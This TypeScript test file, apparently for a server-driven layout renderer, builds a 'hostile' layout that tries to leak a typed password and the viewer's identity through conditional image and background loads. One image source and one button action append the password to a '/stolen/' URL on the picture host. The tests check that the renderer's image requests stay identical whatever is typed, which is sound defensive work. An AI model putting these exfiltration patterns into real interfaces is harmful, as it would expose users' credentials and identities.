import { eventually } from '../screens/eventually';
import { LayoutPage } from './LayoutPage';

// A hostile layout full of pictures from addresses, in every place where it could depend on what somebody types, or on who
// looks, whether one is drawn. Their server answers `no-store` and is asked for the same pictures in the same order each time.

type View = Record<string, unknown>;

const HOST = `https://${LayoutPage.pictureHost}`;
const PASSWORD = 'hunter2';

const view = (widget: string, properties: object, more: object = {}): View => ({
  widget,
  properties: Object.entries({ layout_width: 'match_parent', ...properties }).map(([name, value]) => ({
    [name]: value,
  })),
  ...more,
});
const column = (views: View[], properties: object = {}, more: object = {}): View =>
  view('LinearLayout', { orientation: 'vertical', ...properties }, { views, ...more });
const picture = (name: string, properties: object = {}, expressions?: object): View =>
  view(
    'ImageView',
    { src: `${HOST}/${name}`, layout_height: '40dp', contentDescription: name, ...properties },
    expressions && { expressions },
  );
const shownIf = (condition: string) => ({ visibility: `@{${condition}}` });
const repeated = (count: number, make: (index: number) => View): View[] =>
  Array.from({ length: count }, (_, index) => make(index));

/** One of them for each character that the password might begin with, and for each person that might look. */
const GUESSES = {
  typed: 'password.startsWith("h")',
  notTyped: '!password.startsWith("h")',
  whole: `password == "${PASSWORD}"`,
  person: 'person.name == "An"',
  id: 'person.id.startsWith("u1")',
  handedOver: 'param.secret == "42"',
};

const guessed = Object.entries(GUESSES);

/** Pushes what follows out of what is drawn, or does not. */
const pusher = (condition: string): View =>
  view('View', { layout_height: '9000dp' }, { expressions: shownIf(condition) });

const inScroll = (name: string, condition: string, views: View[]): View =>
  view(
    'ScrollView',
    { layout_height: '80dp', id: `@+id/${name}` },
    { views: [column([pusher(condition), ...views])] },
  );

const hostile: View = view(
  'ScrollView',
  { layout_height: 'match_parent' },
  {
    views: [
      column([
        view('EditText', {
          id: '@+id/password',
          field_name: 'password',
          hint: 'Password',
          inputType: 'textPassword',
        }),
        view('EditText', {
          id: '@+id/note',
          field_name: 'note',
          hint: 'Note',
          inputType: 'textMultiLine',
          layout_height: 'wrap_content',
        }),
        view(
          'Button',
          { text: 'Step' },
          {
            actions: [
              {
                if: '@{password.length() > 3}',
                command: 'set_field',
                field: 'note',
                value: `@{"${HOST}/stolen/" + password}`,
              },
            ],
          },
        ),
        ...guessed.map(([name, condition]) => picture(`own/${name}`, {}, shownIf(condition))),
        ...guessed.map(([name, condition]) =>
          column([picture(`inside/${name}`)], {}, { expressions: shownIf(condition) }),
        ),
        ...guessed.map(([name, condition]) =>
          view(
            'TextView',
            { text: name, background: `${HOST}/behind/${name}` },
            { expressions: shownIf(condition) },
          ),
        ),
        ...guessed.map(([name, condition]) =>
          view(
            'TextView',
            { text: name, background: `${HOST}/replaced/${name}` },
            { expressions: { background: `@{${condition} ? "#ffffff" : null}` } },
          ),
        ),
        ...guessed.map(([name, condition]) =>
          picture(`instead/${name}`, {}, { src: `@{${condition} ? "@drawable/ic_book" : null}` }),
        ),
        ...guessed.map(([name, condition]) =>
          picture(`mapped/${name}`, {}, { src: `@{${condition} ? "@drawable/first" : "@drawable/second"}` }),
        ),
        picture('typed', {}, { src: `@{"${HOST}/stolen/" + password}` }),
        picture('fieldOfPicture', { field_name: 'note', id: '@+id/imageViewScreen' }),
        ...guessed.map(([name, condition]) => picture(`missing/${name}`, {}, shownIf(condition))),
        ...guessed.map(([name, condition]) =>
          inScroll(`inList_${name}`, condition, [
            // A list that is drawn row by row.
            view(
              'RecyclerView',
              { layout_height: 'wrap_content' },
              {
                views: repeated(31, (index) => column([picture(`row/${name}/${String(index % 4)}`)])),
              },
            ),
          ]),
        ),
        view('GridView', {
          layout_height: 'wrap_content',
          numColumns: 4,
          grid_view_layout_item: picture('item', {}, shownIf(GUESSES.person)),
          grid_view_data: Array.from({ length: 8 }, (_, index) => ({ id: index })),
        }),
        view('GridView', {
          layout_height: '100dp',
          numColumns: 2,
          grid_view_layout_item: column([picture('manyItems', {}, shownIf(GUESSES.person))]),
          grid_view_data: Array.from({ length: 10 }, (_, index) => ({ id: index })),
        }),
        view(
          'ViewPager',
          { layout_height: '60dp' },
          {
            views: [
              column([picture('page/0')]),
              column([picture('page/1')], {}, { expressions: shownIf(GUESSES.typed) }),
            ],
          },
        ),
        pusher(GUESSES.notTyped),
        // So many views that those far down are drawn when they come near.
        ...repeated(320, (index) => view('TextView', { text: String(index), layout_height: '30dp' })),
        picture('last'),
        column([picture('lastInside')], { background: `${HOST}/lastBehind` }),
      ]),
    ],
  },
);

const resources = { drawables: { first: `${HOST}/resource/first`, second: `${HOST}/resource/second` } };

interface Visit {
  /** What is typed into the password, and never sent. */
  typed: string;
  note?: string;
  person?: { id: string; name: string };
  secret?: string;
  layout?: View;
}

let page: LayoutPage;

beforeAll(async () => {
  page = await LayoutPage.open();
});

afterAll(() => page.close());

/** Opens the layout as somebody and does all that a person may do short of sending; gives what was asked of the server. */
async function visit({ typed, note = '', person, secret, layout = hostile }: Visit): Promise<string[]> {
  await page.page.goto('https://layout.example/');
  await page.page.waitForFunction(() => 'bench' in window);
  page.requests.length = 0;
  const data = { ...(person && { person }), ...(secret !== undefined && { parameter: { secret } }) };
  await page.draw(layout, { width: 360, height: 640, data, resources });
  await page.waitForControls();
  const tab = page.page;
  if (typed) await tab.getByLabel('Password').pressSequentially(typed);
  if (note) await tab.getByLabel('Note').fill(note);
  const step = tab.getByRole('button', { name: 'Step' });
  if ((await step.count()) > 0) await step.click();
  await tab.getByLabel('Password').fill('');
  await tab.getByLabel('Password').fill(typed);
  // To the end and back, in all that scrolls.
  for (const part of [0.25, 0.5, 0.75, 1, 0])
    await tab.evaluate(async (share) => {
      for (const element of document.querySelectorAll('.sw-viewport, .sw-scroll'))
        element.scrollTop = share * element.scrollHeight;
      await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
    }, part);
  await tab.waitForLoadState('networkidle');
  return page.requests.map((address) => new URL(address).pathname);
}

it('asks the server of pictures for the same ones in the same order, whatever is typed and anyone who looks', async () => {
  const first = await visit({ typed: '' });
  expect(first).toEqual(
    expect.arrayContaining(['/own/typed', '/behind/typed', '/last', '/lastBehind', '/row/id/3', '/page/1']),
  );
  expect(first.filter((path) => path.startsWith('/stolen'))).toEqual([]);
  const visits: Visit[] = [
    { typed: 'h' },
    { typed: PASSWORD, note: 'one\n'.repeat(60) },
    { typed: 'x', person: { id: 'u1', name: 'An' } },
    { typed: PASSWORD, person: { id: 'u2', name: 'Bình' }, secret: '42' },
    { typed: '', person: { id: 'u1', name: 'An' }, secret: '41' },
  ];
  for (const one of visits) expect(await visit(one)).toEqual(first);
});

it('shows the pictures that are to be seen, also again after they were hidden', async () => {
  const layout = column([
    view('EditText', { id: '@+id/password', field_name: 'password', hint: 'Password' }),
    picture('always'),
    picture('sometimes', { scaleType: 'centerCrop' }, shownIf(GUESSES.typed)),
    picture('natural', { layout_width: 'wrap_content', layout_height: 'wrap_content' }),
    view(
      'TextView',
      { text: 'Words', background: `${HOST}/behind` },
      { expressions: shownIf(GUESSES.typed) },
    ),
  ]);
  const asked = await visit({ typed: '', layout });
  const seen = () =>
    page.page.evaluate(() =>
      [...document.images].map(({ alt, complete, width, height }) => [alt, complete, width, height]),
    );
  const always = [
    ['always', true, 360, 40],
    ['natural', true, 16, 16],
  ];
  await eventually(async () => expect(await seen()).toEqual(always));
  for (const typed of ['h', '', 'hh']) {
    await page.page.getByLabel('Password').fill(typed);
    const shown = typed ? [always[0], ['sometimes', true, 360, 40], always[1]] : always;
    await eventually(async () => expect(await seen()).toEqual(shown));
  }
  await expect(
    page.page.getByText('Words').evaluate((element) => getComputedStyle(element).backgroundImage),
  ).resolves.toBe(`url("${HOST}/behind")`);
  expect(page.requests.map((address) => new URL(address).pathname)).toEqual(asked);
  expect(page.problems).toEqual([]);
});
